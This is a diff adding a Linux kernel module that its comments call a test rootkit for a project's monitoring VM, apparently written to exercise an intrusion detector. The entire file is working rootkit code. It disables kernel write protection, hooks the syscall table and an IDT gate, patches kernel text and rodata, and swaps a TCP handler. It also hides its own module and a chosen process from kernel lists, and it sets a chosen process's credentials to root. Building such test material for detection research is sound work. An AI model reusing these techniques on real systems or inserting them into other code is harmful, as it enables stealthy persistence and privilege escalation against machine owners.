@@ -1,0 +1,591 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * avm_rootkit: the project's test rootkit (docs/rootkit.md). It attacks the
+ * Mon-VM's kernel from inside, as real malware does, one attack at a time,
+ * each switched on and off at run time through /proc/avm_rootkit:
+ *
+ *   echo 'syscall 1' > /proc/avm_rootkit     (0 switches it off again)
+ *   echo 'hide_pid 123' > /proc/avm_rootkit  (hide_pid 0: unhide)
+ *   echo 'root_pid 123' > /proc/avm_rootkit  (root_pid 0: restore)
+ *   cat /proc/avm_rootkit                    (one "name value" line each)
+ *
+ * Attacks: syscall (sys_call_table[__NR_getpid] -> a module function that
+ * calls the real handler), idt (gate 0x1d, #VC, -> a module stub that jumps
+ * to the real handler), text (one byte of __x64_sys_kexec_load after its
+ * fentry site), rodata (one letter of a BTF type name changes case), fops
+ * (tcp_prot.init -> a module wrapper that counts and calls the original),
+ * hide_module (THIS_MODULE unlinked from the module list), hide_pid (a
+ * task unlinked from the task list), root_pid (a task's cred ids set to 0).
+ * Each "off" writes back exactly what "on" saved. Only ever loaded into the
+ * test Mon-VM.
+ *
+ * Kernel symbols that are not exported are found with kallsyms_lookup_name,
+ * whose address is the module parameter kln (read by the loader from
+ * /proc/kallsyms); without it the module finds it with a kprobe.
+ */
+#include <linux/module.h>
+#include <linux/kernel.h>
+#include <linux/init.h>
+#include <linux/kprobes.h>
+#include <linux/proc_fs.h>
+#include <linux/uaccess.h>
+#include <linux/mutex.h>
+#include <linux/rculist.h>
+#include <linux/sched.h>
+#include <linux/sched/signal.h>
+#include <linux/sched/task.h>
+#include <linux/cred.h>
+#include <linux/pid.h>
+#include <linux/btf.h>
+#include <linux/irqflags.h>
+#include <net/sock.h>
+#include <net/tcp.h>
+#include <asm/desc.h>
+#include <asm/unistd.h>
+#include <asm/special_insns.h>
+#include <asm/processor-flags.h>
+#include <asm/ptrace.h>
+#include <asm/nospec-branch.h>
+
+MODULE_LICENSE("GPL");
+MODULE_AUTHOR("avm project");
+MODULE_DESCRIPTION("Test rootkit for the A-VM's Mon-VM (never load elsewhere)");
+
+static unsigned long kln;
+module_param(kln, ulong, 0400);
+MODULE_PARM_DESC(kln, "address of kallsyms_lookup_name (from /proc/kallsyms); 0: find it with a kprobe");
+
+static char *text_sym = "__x64_sys_kexec_load";
+module_param(text_sym, charp, 0400);
+MODULE_PARM_DESC(text_sym, "function whose first body byte the text attack changes");
+
+typedef unsigned long (*kln_t)(const char *name);
+static kln_t lookup;
+
+static DEFINE_MUTEX(rk_lock);
+
+/* ---- writing read-only kernel memory: CR0.WP cleared, interrupts off ---- */
+
+static inline void rk_write_cr0(unsigned long val)
+{
+	/* Not write_cr0(): the kernel pins WP and would set it again. */
+	asm volatile("mov %0, %%cr0" : "+r"(val) : : "memory");
+}
+
+static void rk_write_ro(void *dst, const void *src, size_t len)
+{
+	unsigned long flags, cr0;
+
+	preempt_disable();
+	local_irq_save(flags);
+	cr0 = read_cr0();
+	rk_write_cr0(cr0 & ~X86_CR0_WP);
+	memcpy(dst, src, len);
+	rk_write_cr0(cr0);
+	local_irq_restore(flags);
+	preempt_enable();
+}
+
+/* ---- (a) syscall: sys_call_table[__NR_getpid] -> hook_getpid ---- */
+
+typedef long (*syscall_fn_t)(const struct pt_regs *regs);
+static syscall_fn_t *sct;
+static syscall_fn_t orig_getpid;
+static bool syscall_on;
+static atomic_t getpid_calls = ATOMIC_INIT(0);
+
+static long hook_getpid(const struct pt_regs *regs)
+{
+	atomic_inc(&getpid_calls);
+	return orig_getpid(regs);
+}
+
+static int set_syscall(bool on)
+{
+	syscall_fn_t val;
+
+	if (on == syscall_on)
+		return 0;
+	if (!sct)
+		return -ENOENT;
+	if (on) {
+		orig_getpid = READ_ONCE(sct[__NR_getpid]);
+		val = hook_getpid;
+	} else {
+		val = orig_getpid;
+	}
+	rk_write_ro(&sct[__NR_getpid], &val, sizeof(val));
+	syscall_on = on;
+	return 0;
+}
+
+/* ---- (b) idt: gate 0x1d (#VC) -> rk_vc_stub, which jumps to the real one ---- */
+
+#define RK_VECTOR 0x1d
+#ifdef CONFIG_X86_KERNEL_IBT
+#define RK_ENDBR "	endbr64\n"
+#else
+#define RK_ENDBR ""
+#endif
+unsigned long rk_orig_vc;
+void rk_vc_stub(void);
+asm(".pushsection .text\n"
+    ".globl rk_vc_stub\n"
+    ".type rk_vc_stub, @function\n"
+    "rk_vc_stub:\n"
+    RK_ENDBR
+    ANNOTATE_RETPOLINE_SAFE
+    "	jmp *rk_orig_vc(%rip)\n"
+    "	int3\n"
+    ".size rk_vc_stub, .-rk_vc_stub\n"
+    ".popsection\n");
+
+static gate_desc *idt;
+static gate_desc saved_gate;
+static bool idt_on;
+
+static int set_idt(bool on)
+{
+	gate_desc g;
+	unsigned long target = (unsigned long)rk_vc_stub;
+
+	if (on == idt_on)
+		return 0;
+	if (!idt)
+		return -ENOENT;
+	if (on) {
+		saved_gate = idt[RK_VECTOR];
+		if (!saved_gate.bits.p)
+			return -ENODEV;
+		rk_orig_vc = gate_offset(&saved_gate);
+		g = saved_gate;
+		g.offset_low = (u16)target;
+		g.offset_middle = (u16)(target >> 16);
+		g.offset_high = (u32)(target >> 32);
+		rk_write_ro(&idt[RK_VECTOR], &g, sizeof(g));
+	} else {
+		rk_write_ro(&idt[RK_VECTOR], &saved_gate, sizeof(saved_gate));
+	}
+	idt_on = on;
+	return 0;
+}
+
+/* ---- (c) text: the first byte after the fentry site of text_sym ---- */
+
+static u8 *text_byte;
+static u8 text_saved;
+static bool text_on;
+
+static u8 *find_text_byte(unsigned long fn)
+{
+	u8 *p = (u8 *)fn;
+	static const u8 endbr[4] = { 0xf3, 0x0f, 0x1e, 0xfa };
+	static const u8 nop5[5] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
+
+	if (!fn)
+		return NULL;
+	/* endbr64 (6.12, IBT), or its sealed form (a 4-byte NOP) */
+	if (!memcmp(p, endbr, 4) || (p[0] == 0x0f && p[1] == 0x1f && p[2] == 0x40 && p[3] == 0x00))
+		p += 4;
+	/* the fentry site: its 5-byte NOP, or a call while traced */
+	if (!memcmp(p, nop5, 5) || p[0] == 0xe8)
+		p += 5;
+	else
+		return NULL;
+	return p;
+}
+
+static int set_text(bool on)
+{
+	u8 val;
+
+	if (on == text_on)
+		return 0;
+	if (!text_byte)
+		return -ENOENT;
+	if (on) {
+		text_saved = READ_ONCE(*text_byte);
+		val = text_saved ^ 0x01;
+	} else {
+		val = text_saved;
+	}
+	rk_write_ro(text_byte, &val, 1);
+	text_on = on;
+	return 0;
+}
+
+/* ---- (d) rodata: one letter of a BTF type name in the middle of .BTF ---- */
+
+static u8 *rodata_byte;
+static u8 rodata_saved;
+static bool rodata_on;
+
+static u8 *find_rodata_byte(unsigned long start, unsigned long stop)
+{
+	const struct btf_header *h = (const struct btf_header *)start;
+	u8 *s, *end;
+
+	if (!start || !stop || stop - start < sizeof(*h) || h->magic != BTF_MAGIC)
+		return NULL;
+	s = (u8 *)start + h->hdr_len + h->str_off;
+	end = s + h->str_len;
+	if ((unsigned long)end > stop)
+		return NULL;
+	for (s += h->str_len / 2; s < end; s++)
+		if (*s >= 'a' && *s <= 'z')
+			return s;
+	return NULL;
+}
+
+static int set_rodata(bool on)
+{
+	u8 val;
+
+	if (on == rodata_on)
+		return 0;
+	if (!rodata_byte)
+		return -ENOENT;
+	if (on) {
+		rodata_saved = READ_ONCE(*rodata_byte);
+		val = rodata_saved ^ 0x20; /* the letter's case */
+	} else {
+		val = rodata_saved;
+	}
+	rk_write_ro(rodata_byte, &val, 1);
+	rodata_on = on;
+	return 0;
+}
+
+/* ---- (e) fops: tcp_prot.init (struct proto in writable .data) ---- */
+
+static int (*orig_tcp_init)(struct sock *sk);
+static atomic_t tcp_init_calls = ATOMIC_INIT(0);
+static bool fops_on;
+
+static int hook_tcp_init(struct sock *sk)
+{
+	atomic_inc(&tcp_init_calls);
+	return orig_tcp_init(sk);
+}
+
+static int set_fops(bool on)
+{
+	if (on == fops_on)
+		return 0;
+	if (on) {
+		orig_tcp_init = READ_ONCE(tcp_prot.init);
+		WRITE_ONCE(tcp_prot.init, hook_tcp_init);
+	} else {
+		WRITE_ONCE(tcp_prot.init, orig_tcp_init);
+	}
+	fops_on = on;
+	return 0;
+}
+
+/* ---- (f) hide_module: THIS_MODULE unlinked from the module list ---- */
+
+static struct mutex *module_mutex_p;
+static struct list_head *modules_p;
+static struct list_head *mod_prev;
+static bool module_hidden;
+
+static int set_hide_module(bool on)
+{
+	struct list_head *pos;
+	bool prev_linked = false;
+
+	if (on == module_hidden)
+		return 0;
+	if (!module_mutex_p || !modules_p)
+		return -ENOENT;
+	mutex_lock(module_mutex_p);
+	if (on) {
+		mod_prev = THIS_MODULE->list.prev;
+		list_del_rcu(&THIS_MODULE->list);
+	} else {
+		/* back after the module that preceded it, if it is still loaded */
+		if (mod_prev == modules_p) {
+			prev_linked = true;
+		} else {
+			list_for_each(pos, modules_p)
+				if (pos == mod_prev)
+					prev_linked = true;
+		}
+		list_add_rcu(&THIS_MODULE->list, prev_linked ? mod_prev : modules_p);
+	}
+	module_hidden = on;
+	mutex_unlock(module_mutex_p);
+	if (on)
+		synchronize_rcu();
+	return 0;
+}
+
+/* ---- (g) hide_pid: a task unlinked from the task list ---- */
+
+static rwlock_t *tasklist_lock_p;
+static struct task_struct *hidden_task;
+
+static struct task_struct *get_task(pid_t nr)
+{
+	struct pid *pid = find_get_pid(nr);
+	struct task_struct *t;
+
+	if (!pid)
+		return NULL;
+	t = get_pid_task(pid, PIDTYPE_PID);
+	put_pid(pid);
+	return t;
+}
+
+static void unhide_task(void)
+{
+	struct task_struct *t = hidden_task, *p;
+
+	if (!t)
+		return;
+	write_lock_irq(tasklist_lock_p);
+	if (pid_alive(t)) {
+		/* its place in fork order: before the first task started after it */
+		for_each_process(p)
+			if (p->start_time > t->start_time)
+				break;
+		list_add_tail_rcu(&t->tasks, &p->tasks);
+	}
+	write_unlock_irq(tasklist_lock_p);
+	hidden_task = NULL;
+	put_task_struct(t);
+}
+
+static int hide_task(pid_t nr)
+{
+	struct task_struct *t;
+	int err = 0;
+
+	if (!tasklist_lock_p)
+		return -ENOENT;
+	unhide_task();
+	if (nr <= 0)
+		return 0;
+	t = get_task(nr);
+	if (!t)
+		return -ESRCH;
+	if (!thread_group_leader(t) || t->pid <= 1) {
+		put_task_struct(t);
+		return -EINVAL;
+	}
+	/*
+	 * Unlink its neighbours from it (its own pointers stay valid for RCU
+	 * readers standing on it); once no reader can be on it any more, point
+	 * it at itself, so that its exit while hidden unlinks nothing else.
+	 */
+	write_lock_irq(tasklist_lock_p);
+	if (!pid_alive(t)) {
+		err = -ESRCH;
+	} else {
+		t->tasks.prev->next = t->tasks.next;
+		t->tasks.next->prev = t->tasks.prev;
+	}
+	write_unlock_irq(tasklist_lock_p);
+	if (err) {
+		put_task_struct(t);
+		return err;
+	}
+	synchronize_rcu();
+	write_lock_irq(tasklist_lock_p);
+	if (pid_alive(t))
+		INIT_LIST_HEAD(&t->tasks);
+	write_unlock_irq(tasklist_lock_p);
+	hidden_task = t;
+	return 0;
+}
+
+/* ---- (h) root_pid: a task's cred ids overwritten with 0 ---- */
+
+struct rk_ids {
+	kuid_t uid, suid, euid, fsuid;
+	kgid_t gid, sgid, egid, fsgid;
+};
+
+static struct cred *rooted_cred;
+static struct rk_ids rooted_saved;
+static pid_t rooted_pid;
+
+static void unroot(void)
+{
+	struct cred *c = rooted_cred;
+
+	if (!c)
+		return;
+	c->uid = rooted_saved.uid;
+	c->suid = rooted_saved.suid;
+	c->euid = rooted_saved.euid;
+	c->fsuid = rooted_saved.fsuid;
+	c->gid = rooted_saved.gid;
+	c->sgid = rooted_saved.sgid;
+	c->egid = rooted_saved.egid;
+	c->fsgid = rooted_saved.fsgid;
+	rooted_cred = NULL;
+	rooted_pid = 0;
+	put_cred(c);
+}
+
+static int root_task(pid_t nr)
+{
+	struct task_struct *t;
+	struct cred *c;
+
+	unroot();
+	if (nr <= 0)
+		return 0;
+	t = get_task(nr);
+	if (!t)
+		return -ESRCH;
+	rcu_read_lock();
+	c = (struct cred *)get_cred(rcu_dereference(t->cred));
+	rcu_read_unlock();
+	put_task_struct(t);
+	rooted_saved = (struct rk_ids){ c->uid, c->suid, c->euid, c->fsuid,
+					c->gid, c->sgid, c->egid, c->fsgid };
+	c->uid = c->suid = c->euid = c->fsuid = GLOBAL_ROOT_UID;
+	c->gid = c->sgid = c->egid = c->fsgid = GLOBAL_ROOT_GID;
+	rooted_cred = c;
+	rooted_pid = nr;
+	return 0;
+}
+
+/* ---- /proc/avm_rootkit ---- */
+
+static int rk_show(char *buf, size_t size)
+{
+	return scnprintf(buf, size,
+			 "syscall %d\nidt %d\ntext %d\nrodata %d\nfops %d\nhide_module %d\n"
+			 "hide_pid %d\nroot_pid %d\n"
+			 "getpid_hook_calls %d\ntcp_init_hook_calls %d\n"
+			 "tcp_prot_init %s\n"
+			 "sys_call_table 0x%lx\nidt_gate 0x%lx\ntext_byte 0x%lx\nrodata_byte 0x%lx\n",
+			 syscall_on, idt_on, text_on, rodata_on, fops_on, module_hidden,
+			 hidden_task ? hidden_task->pid : 0, rooted_pid,
+			 atomic_read(&getpid_calls), atomic_read(&tcp_init_calls),
+			 READ_ONCE(tcp_prot.init) == hook_tcp_init ? "module" : "kernel",
+			 (unsigned long)sct, idt ? (unsigned long)&idt[RK_VECTOR] : 0,
+			 (unsigned long)text_byte, (unsigned long)rodata_byte);
+}
+
+static ssize_t rk_read(struct file *f, char __user *ubuf, size_t count, loff_t *ppos)
+{
+	char buf[512];
+	int len;
+
+	mutex_lock(&rk_lock);
+	len = rk_show(buf, sizeof(buf));
+	mutex_unlock(&rk_lock);
+	return simple_read_from_buffer(ubuf, count, ppos, buf, len);
+}
+
+static ssize_t rk_write(struct file *f, const char __user *ubuf, size_t count, loff_t *ppos)
+{
+	char buf[64], name[32];
+	long val;
+	int err;
+
+	if (count >= sizeof(buf))
+		return -EINVAL;
+	if (copy_from_user(buf, ubuf, count))
+		return -EFAULT;
+	buf[count] = 0;
+	if (sscanf(buf, "%31s %ld", name, &val) != 2)
+		return -EINVAL;
+	mutex_lock(&rk_lock);
+	if (!strcmp(name, "syscall"))
+		err = set_syscall(val);
+	else if (!strcmp(name, "idt"))
+		err = set_idt(val);
+	else if (!strcmp(name, "text"))
+		err = set_text(val);
+	else if (!strcmp(name, "rodata"))
+		err = set_rodata(val);
+	else if (!strcmp(name, "fops"))
+		err = set_fops(val);
+	else if (!strcmp(name, "hide_module"))
+		err = set_hide_module(val);
+	else if (!strcmp(name, "hide_pid"))
+		err = hide_task(val);
+	else if (!strcmp(name, "root_pid"))
+		err = root_task(val);
+	else
+		err = -EINVAL;
+	mutex_unlock(&rk_lock);
+	return err ? err : count;
+}
+
+static const struct proc_ops rk_ops = {
+	.proc_read = rk_read,
+	.proc_write = rk_write,
+	.proc_lseek = default_llseek,
+};
+
+static struct proc_dir_entry *rk_entry;
+
+static kln_t find_kln(void)
+{
+	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
+	unsigned long addr;
+
+	if (kln)
+		return (kln_t)kln;
+	if (register_kprobe(&kp) < 0)
+		return NULL;
+	addr = (unsigned long)kp.addr;
+	unregister_kprobe(&kp);
+	return (kln_t)addr;
+}
+
+static int __init rk_init(void)
+{
+	struct desc_ptr dt;
+
+	lookup = find_kln();
+	if (!lookup) {
+		pr_err("avm_rootkit: kallsyms_lookup_name not found\n");
+		return -ENOENT;
+	}
+	sct = (syscall_fn_t *)lookup("sys_call_table");
+	/* idt_table (read-only since boot); else what the CPU uses (its
+	 * read-only alias in the CPU entry area, the same page) */
+	idt = (gate_desc *)lookup("idt_table");
+	if (!idt) {
+		store_idt(&dt);
+		idt = (gate_desc *)dt.address;
+	}
+	text_byte = find_text_byte(lookup(text_sym));
+	rodata_byte = find_rodata_byte(lookup("__start_BTF"), lookup("__stop_BTF"));
+	module_mutex_p = (struct mutex *)lookup("module_mutex");
+	modules_p = (struct list_head *)lookup("modules");
+	tasklist_lock_p = (rwlock_t *)lookup("tasklist_lock");
+
+	rk_entry = proc_create("avm_rootkit", 0600, NULL, &rk_ops);
+	if (!rk_entry)
+		return -ENOMEM;
+	pr_info("avm_rootkit: loaded (sys_call_table %px, idt %px, text %px, rodata %px)\n",
+		sct, idt, text_byte, rodata_byte);
+	return 0;
+}
+
+static void __exit rk_exit(void)
+{
+	proc_remove(rk_entry);
+	mutex_lock(&rk_lock);
+	set_syscall(false);
+	set_idt(false);
+	set_text(false);
+	set_rodata(false);
+	set_fops(false);
+	set_hide_module(false);
+	hide_task(0);
+	root_task(0);
+	mutex_unlock(&rk_lock);
+	synchronize_rcu();
+}
+
+module_init(rk_init);
+module_exit(rk_exit);
